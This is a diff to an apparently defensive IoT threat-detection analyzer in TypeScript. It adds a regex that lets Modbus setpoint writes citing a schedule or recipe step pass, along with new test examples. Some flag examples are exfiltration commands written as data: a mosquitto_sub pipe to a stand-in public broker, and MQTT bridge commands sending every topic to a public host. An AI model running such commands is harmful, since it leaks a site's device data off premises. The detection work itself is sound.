@@ -268,8 +268,13 @@ const O02_WRITE = /\b(?:write_?(?:single_|multiple_)?(?:coils?|registers?)|write
 const WITHIN_RANGE = /\b(?:within|inside) (?:the )?(?:approved |allowed |safe |normal |spec(?:ified)? |operating |permitted )?(?:range|limits|band|spec|specification)\b|\b(?:innerhalb|im) (?:des |der )?(?:zulässigen |freigegebenen )?(?:bereichs?|grenzen|toleranz)\b|\bdans (?:la |les )?(?:plage|limites|tolérance)\b|\bdentro (?:del |de los |de la )?(?:rango|límites|limites|intervalo)\b/;
 const LIMITS_KEPT = /\b(?:alarms?|trips?|interlocks?|cut-?offs?|high-limits?|low-limits?|limits|horns?|shutdowns?)\b[^.;\n]{0,40}?\b(?:unchanged|untouched|stays? on|remains? on|remains? enabled|remains? active|enabled)\b/;
 function boundsKept(head: string): boolean {
-  return WITHIN_RANGE.test(head) || LIMITS_KEPT.test(head);
+  return WITHIN_RANGE.test(head) || LIMITS_KEPT.test(head) || PLANNED_STEP.test(head);
 }
+/**
+ * The write is a numbered step of the process's own schedule, recipe or profile ("pine schedule step 3", "ramp step 2
+ * of the cure profile"): the plan the operators set is being run, not changed.
+ */
+const PLANNED_STEP = /\b(?:schedule|recipe|program|programme|profile|ramp|batch|cure|drying|kiln) step \d{1,3}\b|\bstep \d{1,3} of (?:the )?(?:[a-z]{1,20} )?(?:schedule|recipe|program|programme|profile)\b/;
 const O02_ANY = new RegExp(`${O02_WRITE.source.slice(0, -1)}|mbpoll\\b|modpoll\\b|scada\\b|\\bmodbus\\b|\\bhmi\\b|\\bvfd\\b|\\bdcs\\b)`, 'i');
 // Industrial context words (O02 pattern) that need a write verb near a process variable to count.
 const PROCESS_CONTEXT = /^(?:scada|modbus|hmi|vfd|dcs|mbpoll|modpoll)$/;
@@ -577,7 +582,8 @@ const rules: ThreatRule<IotContext>[] = [
         'modbus write holding register 40101 = 9500, within the approved range 820–900, trip unchanged'],
       pass: ['modbus read_holding_registers unit=1 address=40001 count=10', 'read the current setpoint from the PLC', 'show SCADA alarm history for pump 3', { value: 'set freezer_zone_B.setpoint_c = -22', metadata: { site: 'pharma-warehouse' } },
         'modbus write 192.168.50.21 unit 1: holding register 40101 (ZONE2_SETPOINT_C) = 860 per recipe ANN-304 rev. C, within the approved range 820–900, trip and horn unchanged',
-        'Modbus write holding register 40012 = 450 on chiller CH-2, lowering supply temp setpoint 0.5°C, within approved range 4.0–5.0°C'],
+        'Modbus write holding register 40012 = 450 on chiller CH-2, lowering supply temp setpoint 0.5°C, within approved range 4.0–5.0°C',
+        'write_register(unit=1, address=40021, value=650)  # K2 setpoint 65.0 °C, pine schedule step 3'],
     },
   },
   {
@@ -883,9 +889,12 @@ const rules: ThreatRule<IotContext>[] = [
     reason: (d) => `Sends what the devices see or report off site: ${d}`,
     examples: {
       flag: ['connection offsite\naddress broker.example-public.net:1883\ntopic # out 0', "mosquitto_sub -h broker.plant.local -t '#' -v | mosquitto_pub -h public.mqtt-host.example -t dump -l",
-        '{"action": "bridge_add", "remote": "mqtts://relay.free-mqtt.example:8883", "topics": ["#"], "direction": "out"}', '{"stream": {"push": "rtmp://live.relay-cdn.example/app/77", "enabled": true}}'],
+        '{"action": "bridge_add", "remote": "mqtts://relay.free-mqtt.example:8883", "topics": ["#"], "direction": "out"}', '{"stream": {"push": "rtmp://live.relay-cdn.example/app/77", "enabled": true}}',
+        '{"cmd":"set_bridge","remote":"broker.hivemq.com:1883","tls":false,"topics":["estate/#"],"direction":"out"}'],
       pass: ['connection hq\naddress mqtt.hq.corp:1883\ntopic site7/# out 1', 'connection offsite\naddress broker.example-public.net:1883\ntopic site7/status out 0', "mosquitto_sub -h broker.plant.local -t '#' -C 5 -v",
-        '{"stream": {"push": "rtmp://nvr.site.local/live/77", "enabled": true}}', '{"stream": {"push": "rtmp://live.relay-cdn.example/app/77", "enabled": false}}'],
+        '{"stream": {"push": "rtmp://nvr.site.local/live/77", "enabled": true}}', '{"stream": {"push": "rtmp://live.relay-cdn.example/app/77", "enabled": false}}',
+        '{"cmd":"set_bridge","remote":"mqtt.estate.local:1883","topics":["estate/#"],"direction":"out"}', '{"cmd":"set_bridge","remote":"broker.hivemq.com:1883","topics":["estate/alerts/#"],"direction":"out"}',
+        '{"cmd":"set_bridge","remote":"mqtt.tea-estates.example:8883","tls":true,"ca":"/etc/ssl/estate-ca.pem","topics":["estate/#"],"direction":"out"}'],
     },
   },
   {
@@ -1095,6 +1104,6 @@ const iotAnalyzer: Analyzer<IotContext> = {
   keywordsAtWordStart: true,
   rules: quietWhenDescribed<IotContext, ThreatRule<IotContext>>(rules),
   effect: iotEffect,
-  auxPatterns: [UNLOCK_WORD, LOCK_TARGET, SSH_HARDENED, ...IOT_STEP_PATTERNS, WITHIN_RANGE, LIMITS_KEPT, ...BOUND_PATTERNS, STANDING_IDENTITY, STANDING_AUTOMATION, AUTOMATION_OFF, VOICE_CAPTURE, WATCHING_DEVICE, FEW_HOURS, DEVICE_DOSE, PATIENT_CONFIRMS, DOSE_OVERRIDE, ROLLBACK_READY, ROLLBACK_READY_ALL, REQUEST_TARGET, REQUEST_TARGETS, SIGNATURE_KEPT, DIGEST_PINNED, HTTPS_SOURCE, HOME_ENTRY, COLD_SETPOINT, PEOPLE_HOME, LIFE_SAFETY, PERMANENT, ...IOT_CONTEXT_PATTERNS, ...IOT_READING_PATTERNS, TEST_MESSAGE, TEST_DENIED, LOGIN_ADDED, STARTUP_HOOK, TUNNEL_OUT, WEAK_SECRET, EXPOSE_ACCESS, PUBLIC_IPV4, WILDCARD_TOPIC, OUT_OF_SERVICE, SAFETY_OBJECT, OFF_STATE, TEMPERATURE_FOREIGN, ALARM_WORD, OUTSIDE_WORD, O09_INSIDE, O09_CRITICAL, O09_LONG, FOREIGN_MONITOR, FOREIGN_OFF, ACCESS_FIRST, THEN_OPEN, UNDERSCORE, ...PREP_PATTERNS, ...PREP_FAST_PATTERNS, ...DETECT_PATTERNS, O02_WRITE, O02_ANY, PROCESS_CONTEXT, PROCESS_OBJECT, PROCESS_VERB, POLL_WRITE, CRITICAL_PROCESS, VEHICLE_TRACKING, VEHICLE_WORD, STRUCTURED, STRUCT_SEP, SPACES, COMMAND_MARK, CMD_OBJ_VERB, CMD_VERB_OBJ, DISARM, FOREIGN_OBJECT, FOREIGN_VERB, FOREIGN_ALARM, NOT_THE_DOOR, VEHICLE_DIRECT, VEHICLE_SAFETY, VEHICLE_OFF_VERB, EXPOSE_VERB, ALARM_CLOCK, SETPOINT_WRITE, BLIND_DIRECT, MONITOR_OBJECT, BLIND_VERB, O09_ALL, AWAY_WORDS, NIGHT_WORDS, CLOCK, QUESTION, TEMPERATURE],
+  auxPatterns: [PLANNED_STEP, UNLOCK_WORD, LOCK_TARGET, SSH_HARDENED, ...IOT_STEP_PATTERNS, WITHIN_RANGE, LIMITS_KEPT, ...BOUND_PATTERNS, STANDING_IDENTITY, STANDING_AUTOMATION, AUTOMATION_OFF, VOICE_CAPTURE, WATCHING_DEVICE, FEW_HOURS, DEVICE_DOSE, PATIENT_CONFIRMS, DOSE_OVERRIDE, ROLLBACK_READY, ROLLBACK_READY_ALL, REQUEST_TARGET, REQUEST_TARGETS, SIGNATURE_KEPT, DIGEST_PINNED, HTTPS_SOURCE, HOME_ENTRY, COLD_SETPOINT, PEOPLE_HOME, LIFE_SAFETY, PERMANENT, ...IOT_CONTEXT_PATTERNS, ...IOT_READING_PATTERNS, TEST_MESSAGE, TEST_DENIED, LOGIN_ADDED, STARTUP_HOOK, TUNNEL_OUT, WEAK_SECRET, EXPOSE_ACCESS, PUBLIC_IPV4, WILDCARD_TOPIC, OUT_OF_SERVICE, SAFETY_OBJECT, OFF_STATE, TEMPERATURE_FOREIGN, ALARM_WORD, OUTSIDE_WORD, O09_INSIDE, O09_CRITICAL, O09_LONG, FOREIGN_MONITOR, FOREIGN_OFF, ACCESS_FIRST, THEN_OPEN, UNDERSCORE, ...PREP_PATTERNS, ...PREP_FAST_PATTERNS, ...DETECT_PATTERNS, O02_WRITE, O02_ANY, PROCESS_CONTEXT, PROCESS_OBJECT, PROCESS_VERB, POLL_WRITE, CRITICAL_PROCESS, VEHICLE_TRACKING, VEHICLE_WORD, STRUCTURED, STRUCT_SEP, SPACES, COMMAND_MARK, CMD_OBJ_VERB, CMD_VERB_OBJ, DISARM, FOREIGN_OBJECT, FOREIGN_VERB, FOREIGN_ALARM, NOT_THE_DOOR, VEHICLE_DIRECT, VEHICLE_SAFETY, VEHICLE_OFF_VERB, EXPOSE_VERB, ALARM_CLOCK, SETPOINT_WRITE, BLIND_DIRECT, MONITOR_OBJECT, BLIND_VERB, O09_ALL, AWAY_WORDS, NIGHT_WORDS, CLOCK, QUESTION, TEMPERATURE],
 };
 export default iotAnalyzer;
